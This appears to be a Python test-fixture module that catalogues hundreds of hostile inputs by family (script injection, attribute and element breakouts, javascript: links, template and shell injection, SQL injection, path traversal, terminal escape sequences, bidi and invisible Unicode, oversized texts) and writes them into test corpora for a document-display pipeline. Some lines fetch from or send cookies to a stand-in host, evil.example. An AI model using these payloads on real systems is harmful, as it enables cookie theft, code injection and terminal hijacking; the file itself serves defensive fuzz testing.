# ruff: noqa: E501 (tables of cases)
"""Hostile texts by name, and corpora that bring them into every place that people are shown.

`PAYLOADS` holds texts as they may stand in a document, an id, a title or the name of a file: each is meant to become
markup, a request, a command of a terminal or a crash somewhere. `HUGE` holds those that are hostile by their size.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.material import prose

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

_TABLES: dict[str, tuple[str, ...]] = {
    # Scripts, in all cases and breakings.
    "script": (
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/a.js></script>",
        "<script >alert(1)</script >", "<script\t>alert(1)</script\t>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script/x>",
        "<script\x0c>alert(1)</script\x0c>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)",
        "<script type=module>import 'http://evil.example/a.mjs'</script>", "<script type=text/vbscript>MsgBox 1</script>",
        "<script>//<![CDATA[\nalert(1)//]]></script>", "<script><!--\nalert(1)//--></script>", "<script>document.title='hit'</script>",
        "<script>fetch('http://evil.example/?'+document.cookie)</script>", "<script async defer nonce=a src=data:,alert(1)></script>",
        "<script language=javascript>alert(1)</script>", "< script >alert(1)</ script >", "<s\u0441ript>alert(1)</s\u0441ript>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a.js\"}}</script>", "<script>Object.prototype.hit = 1</script>",
    ),
    # Elements that load, replace, move or cover the page.
    "element": (
        "<style>body{display:none}</style>", "<STYLE>*{color:transparent!important}</STYLE>", "<link rel=stylesheet href=//evil.example/a.css>",
        "<link rel=prefetch href=//evil.example/>", "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=//evil.example></frameset>", "<object data=//evil.example/a.swf></object>", "<embed src=//evil.example/a.swf>",
        "<applet code=A.class></applet>", "<base href=//evil.example/>", "<base target=_blank>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>",
        "<form action=//evil.example><input name=a><button>Go on</button></form>", "<button formaction=javascript:alert(1)>Go on</button>",
        "<input type=image src=//evil.example/a.png>", "<img src=//evil.example/a.png>", "<img srcset='//evil.example/a.png 1x'>",
        "<picture><source srcset=//evil.example/a.png><img></picture>", "<video poster=//evil.example/a.png></video>", "<audio src=//evil.example/a.mp3 autoplay></audio>",
        "<table background=//evil.example/a.png><tr><td>a</td></tr></table>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
        "<dialog open>Your session has ended</dialog>", "<textarea autofocus>", "<select><option>a</select>", "<template><script>alert(1)</script></template>",
        "<slot name=a></slot>", "<portal src=//evil.example></portal>", "<marquee>a</marquee>", "<html><head><title>hit</title></head><body>", "<!doctype html><html>",
        "<div style='position:fixed;inset:0;background:#fff'>Your session has ended</div>", "<isindex prompt=a action=javascript:alert(1)>", "<bgsound src=//evil.example/a.mid>",
        "<details open><summary>a</summary>b</details>", "<fencedframe></fencedframe>", "<h1>Another report</h1>", "<div id=main></div><a name=top></a>",
    ),
    # Where other rules of parsing hold.
    "foreign": (
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script href=//evil.example/a.js /></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>", "<svg><use href=//evil.example/a.svg#b /></svg>", "<svg><image href=//evil.example/a.png /></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onmouseover to=alert(1) /></svg>", "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        "<svg><title><style></title><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math href=javascript:alert(1)>a</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!ENTITY a SYSTEM \"file:///etc/passwd\">&a;",
        "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--#include virtual=\"/etc/passwd\"-->",
    ),
    # What ends the element that a text stands in.
    "closing": (
        "</script><script>alert(1)</script>", "</SCRIPT >", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</details></details><h2>hit</h2>",
        "</td></tr></table><p>hit</p>", "</p></div></section></main></body></html>", "</svg></figure><p>hit</p>", "--><script>alert(1)</script>", "--!><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "<!--", "<!-- <script>", "<!-->", "<![CDATA[", "</template></noscript></iframe></noembed></noframes>", "</button></form></dialog>", "</mark></del></ins></code></pre>", "</span></li></ul></dd></dl>", "</", "<", "<a", "</a", "<!", "<?", "&", "&#", "&lt", "<script", "</script", "<script><!--<script>",
        "</summary><summary>hit", "</h2></header><h1>hit</h1>", "</option></select><script>alert(1)</script>", "</math></svg><script>alert(1)</script>", "</xmp></plaintext>", "</json></data><b>hit</b>",
    ),
    # What ends the attribute that a text stands in.
    "attribute": (
        '"><script>alert(1)</script>', "'><script>alert(1)</script>", "`><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='",
        "x onclick=alert(1)", "x/onclick=alert(1)", 'x" style="display:none', "x' style='display:none", 'x" class="alarm" hidden="', 'x" id="main', 'x" href="javascript:alert(1)', '\\"><script>alert(1)</script>', "\\'><script>alert(1)</script>",
        '&quot;><script>alert(1)</script>', "&#34; onclick=&#34;alert(1)", '"/><img src=x onerror=alert(1)>', "\"\n onclick=alert(1)\n x=\"", "\" \x0conclick=alert(1) x=\"", "\"]='x'><b>", "a b=c d='e' f=\"g\"", "\u201d onclick=alert(1) x=\u201d", "=", ">", "\"", "'", "`", "/>", "\\", 'aria-hidden="true"',
        'x" data-key="y" data-decision="keep', "x\" popover onbeforetoggle=alert(1) \"", "#\"><b>hit</b>", "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    # Links of Markdown and HTML.
    "url": (
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))", "[a](java\nscript:alert(1))", "[a](\x01javascript:alert(1))", "[a]( javascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#106;avascript:alert(1))", "[a](javascript://%0aalert(1))",
        "[a](data:text/html,<script>alert(1)</script>)", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)", "[a](//evil.example)", "[a](\\\\evil.example\\b)", "[a](blob:http://evil.example/1)", "[a](http://evil.example \"\\\" onclick=alert(1)\")",
        "![a](http://evil.example/a.png)", "![a](x \"onerror=alert(1)\")", "![\" onerror=\"alert(1)](x)", "[a][b]\n\n[b]: javascript:alert(1)", "<javascript:alert(1)>", "<http://evil.example/?\"onclick=\"alert(1)>", "http://evil.example/<script>alert(1)</script>", "http://127.0.0.1:1/\"onmouseover=\"alert(1)",
        "<a href=javascript:alert(1)>a</a>", "<a href=\" javascript:alert(1)\">a</a>", "<a href='java&#10;script:alert(1)'>a</a>", "<a href=data:text/html,hit>a</a>", "<a href=vbscript:a>a</a>", "<a ping=//evil.example href=#>a</a>", "<a target=_blank href=//evil.example>a</a>", "<a download href=//evil.example/a.exe>a</a>",
        "<area href=javascript:alert(1)>", "javascript:alert(1)", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "view-source:javascript:alert(1)", "chrome://settings", "about:blank#<script>", "http://user:secret@evil.example:1/", "//evil.example", "/\\evil.example", "https:evil.example",
        "?next=//evil.example&token=1", "#\" autofocus onfocus=alert(1) \"", "intent://evil.example#Intent;end", "jar:http://evil.example!/a", "tel:+1\" onclick=\"alert(1)", "mailto:a@evil.example?body=%0d%0aBcc:b@evil.example",
    ),
    # What template engines and shells evaluate.
    "template": (
        "{{7*7}}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endraw %}{{7*7}}", "{% endblock %}{% endautoescape %}", "{# a", "#}{{7*7}}", "{{ config }}", "{{ text|safe }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% 7*7 %>", "@{7*7}", "*{7*7}", "{{constructor.constructor('alert(1)')()}}", "{{{7*7}}}", "[[${7*7}]]", "<#assign a=7*7>${a}",
        "$(touch hit)", "`touch hit`", "; touch hit #", "| touch hit", "&& touch hit", "\n touch hit\n", "%0atouch hit", "-rf /", "--output=hit", "{{=<% %>=}}<% 7*7 %>", "{$smarty.version}", "#set($a=7*7)$a", "__import__('os').system('touch hit')", "'; DROP TABLE documents; --", "1 OR 1=1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd", "%PATH%", "$HOME", "~root", "!!python/object/apply:os.system [touch hit]", "*)(uid=*",
    ),
    "css": (
        "width:expression(alert(1))", "background:url(javascript:alert(1))", "background:url(//evil.example/a.png)", "@import '//evil.example/a.css';", "</style><img src=x onerror=alert(1)>", "*/}body{display:none}/*", "}</style>", "<!--</style>-->", "\\3c script\\3e", "-moz-binding:url(//evil.example/a.xml#b)", "behavior:url(a.htc)", "@font-face{font-family:a;src:url(//evil.example/a.woff)}", ";position:fixed;inset:0;z-index:9999", "content:attr(data-a)", "color:red;}*{display:none", "var(--a,url(//evil.example))", "100%;background:red", "url('data:image/svg+xml,<svg onload=alert(1)>')",
    ),
    "entity": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)", "&#x3c;script&#x3e;alert(1)", "&#0000060script>alert(1)", "&LT;script&GT;alert(1)", "&ltscript&gtalert(1)", "&amp;#60;img src=x onerror=alert(1)&amp;#62;", "&#0;", "&#x0;", "&#27;[31m", "&#x1b;]0;hit&#7;", "&#x202e;gnp.a", "&#xd800;", "&#x110000;", "&#99999999999;", "&NewLine;&Tab;&colon;", "&nbsp;&shy;&zwj;&lrm;&rlm;", "&amp;amp;amp;", "&notit;&copy&reg", "&lbrace;&lbrace;7*7&rbrace;&rbrace;", "&quot;onclick=&quot;alert(1)",
    ),
    # Bytes that another decoder reads as markup.
    "encoding": (
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ACIAPgA8-script+AD4-", "\xc0\xbcscript\xc0\xbe", "\xe0\x80\xbcscript\xe0\x80\xbe", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "%c0%bcscript%c0%be", "%u003cscript%u003e", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "\\74script\\76", "\u2028alert(1)\u2029", "\ufeff<script>alert(1)</script>", "\ufffe\uffff", "\x1b$B<script>\x1b(B", "\ufe64script\ufe65alert(1)", "\u02c2script\u02c3", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "\u0130mg \u017fcript \u212a", "~{<script>~}", "\ufffd\ufffd<script>",
    ),
    "json": (
        '","hit":true,"a":"', '"}\n{"id":"hit","text":"hit"}', "'}", "\\", '\\"', "\\u0022,\\u0022hit\\u0022:1", '{"__proto__":{"hit":1}}', "null", "NaN", "[[[[[[", "}", "]};alert(1);//", "</script>{\"a\":1}", "\u2028\u2029", "1e999", "-0", "\\ud800", '{"id":1}\r\n{"id":2}', "true", '"', "//]]>", "\\b\\f\\n\\r\\t\\/",
    ),
    "format": (
        "%s%s%s%s%n", "%x%x%x%x", "%(secret)s", "%c%c", "{0}", "{}", "{0.__class__}", "{a!r:>{b}}", "{:1000000}", "%99999999d", "%%", "$1\\1\\g<0>", "\\N{BELL}", "(?i)(a+)+$", "(", "[", "*", ".{9999999}", "\\E\\Q", "{text}{id}{why}", "f'{1}'",
    ),
    "name": (
        "../../../etc/passwd", "..\\..\\hit", "/etc/passwd", "C:\\Windows\\hit", "CON", "nul.txt", "a/b/c", ".", "..", "-", "--help", "a:1", "a.jsonl:1", " ", "  a  ", "a\nb", "a\tb", "a\rb", "0", "None", "null", "undefined", "[object Object]", "constructor", "__proto__", "hasOwnProperty", "main", "a#b?c=d&e", "%2e%2e%2f", "a%00b", "*", "?", "~", "a,b;c|d", "\u00e9\u0065\u0301", "e\u0301\u00e9", "\uff0e\uff0e\uff0f", "\u2025\u2215", "a" * 255, "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0928\u092e\u0938\u094d\u0924\u0947", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u6e21\u8239",
    ),
    # What a terminal obeys.
    "terminal": (
        "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[2K\x1b[1A", "\x1b[999;999H", "\x1b[?25l", "\x1b[?1049h", "\x1b[?1000h", "\x1b[8mhidden\x1b[28m", "\x1b[6n", "\x1b[c", "\x1b[>c", "\x1b[5i", "\x1b[4i", "\x1b[20h", "\x1b[12;24r", "\x1b[38;2;0;0;0;48;2;0;0;0m", "\x1b[1;31;5;7m", "\x1b[3g", "\x1b[!p", "\x1b[?3h", "\x1b[b", "\x1b[1000000000b",
        "\x1b]0;hit\x07", "\x1b]2;hit\x1b\\", "\x1b]8;;http://evil.example\x1b\\a\x1b]8;;\x1b\\", "\x1b]8;;file:///etc/passwd\x07a\x1b]8;;\x07", "\x1b]52;c;aGl0\x07", "\x1b]52;c;?\x07", "\x1b]4;1;rgb:00/00/00\x07", "\x1b]10;?\x07", "\x1b]50;hit\x07", "\x1b]1337;File=inline=1:aGl0\x07", "\x1b]9;hit\x07", "\x1b]777;notify;hit;hit\x07", "\x1b]7;file:///\x07", "\x1b]133;A\x07", "\x1b]unended", "\x1bPq#0;2;0;0;0~\x1b\\", "\x1bP$q\"p\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Ga=T;aGl0\x1b\\", "\x1b^hit\x1b\\", "\x1bXhit\x1b\\", "\x1bPunended",
        "\x1bc", "\x1b7\x1b8", "\x1bD\x1bM", "\x1b(0lqk\x1b(B", "\x1b#8", "\x1b%G", "\x1b=", "\x1b>", "\x1bN\x1bO", "\x1b", "\x1b[", "\x1b\x1b[31m", "\x1b[31", "\x1b[\x1b[31m", "\x1b]0;a\x1b]0;b\x07\x07", "\x1b[3\x001m", "\x1b[\x0731m", "\x1b\n[31m", "\x1b[31\x1b[m", "\x9b31m", "\x9b2J", "\x9d0;hit\x9c", "\x90q~\x9c", "\x9d8;;http://evil.example\x9ca\x9d8;;\x9c", "\x84\x85\x8d", "\x9b\x1b[6n",
        "kept\rgone", "kept\b\b\b\bgone", "kept\x7f\x7f\x7f\x7fgone", "a\x0bb\x0cc", "\x0e\x0fa", "\x07\x07\x07", "\x05", "\x11\x13", "a\r\n\rb", "\x1a", "\x04\x03\x1c", "\x1b[200~touch hit\n\x1b[201~", "\x18\x1b[31m", "\x1a[31m", "\x1b[38:5:1m", "\x1b[?2004h", "\x1b[>4;2m", "\x1b[1$r", "\x1b[1'|", "\x1b[ q",
    ),
    "bidi": (
        "\u202etxt.exe", "\u202dabc\u202c", "\u202aabc", "\u202babc\u202c\u202c\u202c", "\u2066abc", "\u2067abc\u2069", "\u2068abc\u2069\u2069", "\u200eabc\u200f", "\u061cabc", "kept\u202e\u2066gone\u2069", "\u202e" * 200, "\u2066" * 200 + "a", "/*\u202e } \u2066if (a)\u2069 \u2066 */", "\u05d0\u202e(a)\u202c", "<\u202etpircs>", "\u202ealert(1)\u202c", "a\u202b\nb", "\u2066\u2066\u2069",
    ),
    "invisible": (
        "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u034fb", "a\u115fb", "a\u3164b", "a\u17b4b", "a\u180eb", "a\u2061\u2062\u2063\u2064b", "a\ufe0fb", "a\U000e0100b", "\U000e0068\U000e0069\U000e007f", "a\ufff9b\ufffac\ufffb", "a\u2028b", "a\u2029b", "a\u0085b", "a\u00a0b\u3000c\u2003d", "\u200b" * 300, "\ue000\uf8ff\U0010fffd", "\ufdd0\U0001fffe", "a\u206ab\u206f", "a\u2800b", "\U0001d173a\U0001d17a", "<\u200bscript>alert(1)</script>", "java\u200bscript:alert(1)", "\u2800" * 40, "\u3164" * 40,
    ),
    "combining": (
        "a" + "\u0301" * 200, "Z\u0351\u036b\u0343a\u0321\u0489l\u035bg\u0338o\u0322", "".join(c + "\u0300\u0316\u0334" * 30 for c in "hit"), "\u0e01" + "\u0e49" * 200, "\u20dd" * 50, "a" + "\u0489" * 300, "\u0bb8\u0bcd\u0bb0\u0bc0" * 30, "\u1100" * 200 + "\u1161" * 200, "\u0f67\u0f90\u0fb5\u0fa8\u0fb3\u0fba\u0fbc\u0fbb\u0f82", "\U0001f3f4" + "\U000e0067" * 60, "\u200d".join("\U0001f468" * 100), "\u0301\u0301a",
    ),
    "surrogate": (
        "a\ud800b", "a\udc00b", "\udfff\ud800", "\ud83d", "\ude00\ud83d", "<\ud800script>alert(1)</script>", "\udcff\udc80", "\ud800" * 100, "a\ud800", "\udc1b[31m",
    ),
}  # fmt: skip
_EVENTS = (
    "onerror onload onclick onfocus onblur onmouseover onpointerenter ontoggle onstart onbegin onanimationstart"
    " ontransitionend onwheel onscroll onpageshow onhashchange onmessage onbeforeprint onresize oninput onkeydown"
    " oncopy ondrag onauxclick onbeforematch oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation"
).split()
_ELEMENTS = "img svg body details input video marquee animate div a".split()


def _all() -> dict[str, str]:
    named = {f"{family}-{number}": text for family, texts in _TABLES.items() for number, text in enumerate(texts)}
    for number, event in enumerate(_EVENTS):
        element = _ELEMENTS[number % len(_ELEMENTS)]
        named[f"event-{event}"] = f"<{element} src=x open autofocus tabindex=1 {event}=alert(1)>{event}"
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        named[f"control-{code:02x}"] = f"kept{chr(code)}gone"
    return named


PAYLOADS: dict[str, str] = _all()
"""The texts by name: `family-number`, or what the family is of."""

HUGE: dict[str, str] = {
    "huge-word": "w" * 1_000_000,
    "huge-combining": "w" + "\u0301" * 300_000,
    "huge-lines": "\n" * 100_000,
    "huge-brackets": "[" * 100_000 + "]" * 100_000,
    "huge-parentheses": "(" * 100_000,
    "huge-tags": "<div>" * 100_000,
    "huge-quotes": "> " * 50_000 + "a",
    "huge-lists": "".join(" " * depth + "- a\n" for depth in range(500)),
    "huge-emphasis": "*_" * 50_000,
    "huge-links": "[a](" * 50_000,
    "huge-ampersands": "&" * 200_000,
    "huge-escapes": "\x1b[31m" * 50_000,
    "huge-controls": "\x00" * 200_000,
    "huge-emoji": "\U0001f600" * 100_000,
    "huge-numbers": "9" * 100_000,
    "huge-table": "|" * 100_000,
}


TOWNS = ("Port Adam", "Port Bela", "Port Cora", "Port Dora")


def family(name: str) -> str:
    """The family of a payload: `script` of `script-3`."""
    return name.split("-", 1)[0]


BATCHES = {
    next(iter(batch)): batch
    for batch in (dict(list(PAYLOADS.items())[at : at + 24]) for at in range(0, len(PAYLOADS), 24))
}
"""All payloads in batches, each by the name of its first."""


def harmless(payloads: Mapping[str, str]) -> dict[str, str]:
    """The same batch with words in the place of its texts: a corpus of it has the same shape."""
    return {name: f"the blue {name} door" for name in payloads}


def corpus(folder: Path, payloads: Mapping[str, str]) -> Path:
    """Write a corpus into a new folder that brings each payload into every place that is shown: paragraphs that stay,
    chrome that repeats as it is and with slots, passages and documents that go as duplicates, with what stands around
    them and what differs, ids, URLs, sites, titles, authors, dates, and the names and reasons of what fails."""
    folder.mkdir()
    lines = [line for name, text in payloads.items() for line in map(json.dumps, _records(name, text))]
    (folder / "records.jsonl").write_text("\n".join(lines), encoding="ascii")
    for name, text in payloads.items():
        _write(folder / f"{name}.csv", f"{_quoted(text)},{_quoted(name)}\n1,2\n")  # no column holds texts
        _write(folder / f"{name}.jsonl", text + "\n")  # no JSON
        called = (
            text.replace("/", "\u2215")
            .replace("\0", "")
            .encode("utf-8", "surrogateescape" if _bytes(text) else "replace")
        )
        for kind, content in ((".txt", ""), (".md", prose(_number(name) + 9)), (".pdf", "")):
            _write(folder / name / (called[:200].decode("utf-8", "surrogateescape") + kind), content)
    return folder


def chrome(name: str, text: str) -> list[str]:
    """The blocks with a payload that repeat below the articles of its site: in words that only it has, and in words
    that all have in common."""
    words = prose(_number(name) + 2, 16)
    return [
        f"{words[:40]} {text} {words[40:]}",
        f"Follow the harbour office and {text} for news of every ferry and every mill.",
        f"© 2024 {text}. All rights reserved.",
    ]


def ids(name: str, text: str) -> list[str]:
    """The ids of some documents of a payload: two articles of its site, a copy of the passage of the second, and two
    that are the same."""
    return [f"{text} {name}/0", f"{text} {name}/1", f"{name} {text}", f"{text}\N{SNOWMAN}{name}", f"{name}\n{text}"]


def _records(name: str, text: str) -> Iterator[dict[str, Any]]:
    number, there = _number(name), ids(name, text)
    passage, end = prose(number, 40), prose(number + 1, 30)
    articles = [[prose(number + 10 + 10 * each + at, 40) for at in range(3)] for each in range(len(TOWNS))]
    articles[0].insert(1, f"The notice on the quay said {text} and nothing else was written on that side of it.")
    articles[1].insert(2, f"{passage} They called it {text} because of the weather that year. {end}")
    for each, paragraphs in enumerate(articles):
        slots = f"{prose(number + 3, 8)} {each + 2} in {TOWNS[each]} {text}{each} {prose(number + 4, 8)}"
        yield {
            "id": there[each] if each < 2 else f"{name}/{each}",
            "url": f"https://{name}.example/{each}?{text}",
            "site": f"{text} {name}",
            "title": f"{text} {each}",
            "author": text,
            "date": f"20{number // 100 % 25:02}-0{each + 1}-11" if each else text,
            "text": "\n\n".join([*paragraphs, slots, *chrome(name, text)]),
        }
    copied = {"site": f"copies of {text}", "title": text, "author": text, "date": text, "tags": [text]}
    around = [prose(number + 60, 40), f"{text} stood before it.", f"{text} stood behind it.", prose(number + 61, 40)]
    around.insert(2, f"{passage} They called it {text}{text} because of the weather this year. {end}")
    whole = [prose(number + 62, 40), f"{prose(number + 63, 20)} {text} {prose(number + 64, 20)}"]
    for id_, paragraphs in zip(there[2:], (around, whole, whole), strict=True):
        yield {"id": id_, **copied, "text": "\n\n".join(paragraphs)}
    yield {"id": there[0], "text": f"{text} " + prose(number + 70)}  # an id that is there already


def _number(name: str) -> int:
    """A seed for prose that no other payload has near it."""
    return 1_000_000 + 100 * list({**PAYLOADS, **HUGE}).index(name)


def _bytes(text: str) -> bool:
    return all(not "\ud800" <= char <= "\udfff" or "\udc80" <= char <= "\udcff" for char in text)


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _write(path: Path, text: str) -> None:
    """Write a file, where this system can have one of its name."""
    path.parent.mkdir(exist_ok=True)
    try:
        path.write_text(text, encoding="utf-8", errors="replace")
    except (OSError, ValueError):
        return
